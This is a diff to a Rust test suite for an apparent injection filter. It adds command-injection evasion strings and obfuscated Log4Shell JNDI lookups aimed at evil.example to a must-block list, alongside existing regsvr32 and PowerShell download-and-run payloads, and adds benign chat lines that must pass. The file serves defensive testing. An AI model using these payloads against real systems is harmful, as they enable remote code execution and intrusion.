@@ -195,6 +195,14 @@ fn command_injection_evasions_are_blocked() {
             "x%3Bid%20%23",
             "x & regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
             "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
+            "x;(id)",
+            "x | (uname -a)",
+            "x;w`u`hoami",
+            "x;w$(u)hoami",
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:ldap://evil.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
+            "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
         ],
     );
 }
@@ -236,6 +244,11 @@ fn benign_chat_passes() {
         "we need a union table for the data",
         "status online=yes",
         "the location = name of the town",
+        "ok; (sorry) I was late",
+        "lol; (ps i love you)",
+        "call foo() then bar(); done",
+        "a `b` c `d` e",
+        "Hi ${name}, see ${url}",
     ] {
         assert_eq!(h.tag_of(payload), None, "{payload:?}");
     }
